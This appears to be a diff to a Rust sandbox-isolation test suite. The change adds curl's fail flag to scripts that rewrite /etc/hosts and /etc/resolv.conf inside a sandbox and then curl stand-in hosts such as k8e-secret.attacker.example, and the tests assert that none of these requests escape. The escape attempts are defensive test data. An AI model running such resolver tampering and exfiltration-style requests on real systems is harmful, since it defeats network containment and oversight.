@@ -181,7 +181,7 @@ fn a_table_of_hosts_of_ones_own() {
             "echo tried; cp /etc/hosts /tmp/hosts\n\
              printf '{CDN} bad.example\\n{ELSEWHERE} good.example elsewhere.example\\n' >> /etc/hosts || exit 1\n\
              for url in http://bad.example https://bad.example http://good.example https://good.example https://elsewhere.example; do\n\
-             curl -sk --max-time 5 $url/k8e-secret && echo ESCAPED $url; done\n\
+             curl -sfk --max-time 5 $url/k8e-secret && echo ESCAPED $url; done\n\
              cp /tmp/hosts /etc/hosts"
         ));
         inside.assert_not_asked();
@@ -197,9 +197,9 @@ fn a_resolver_of_ones_own_choice() {
         inside.tries_sh(&format!(
             "echo tried; cp /etc/resolv.conf /tmp/resolv.conf\n\
              printf 'nameserver {RESOLVER}\\noptions timeout:1 attempts:1\\n' > /etc/resolv.conf || exit 1\n\
-             curl -sk --max-time 5 https://k8e-secret.attacker.example/ && echo ESCAPED\n\
+             curl -sfk --max-time 5 https://k8e-secret.attacker.example/ && echo ESCAPED\n\
              printf 'nameserver {RESOLVER}\\noptions timeout:1 attempts:1 use-vc\\n' > /etc/resolv.conf\n\
-             curl -sk --max-time 5 https://k8e-secret.attacker.example/ && echo ESCAPED\n\
+             curl -sfk --max-time 5 https://k8e-secret.attacker.example/ && echo ESCAPED\n\
              cp /tmp/resolv.conf /etc/resolv.conf"
         ));
         inside.assert_not_reached(RESOLVER);
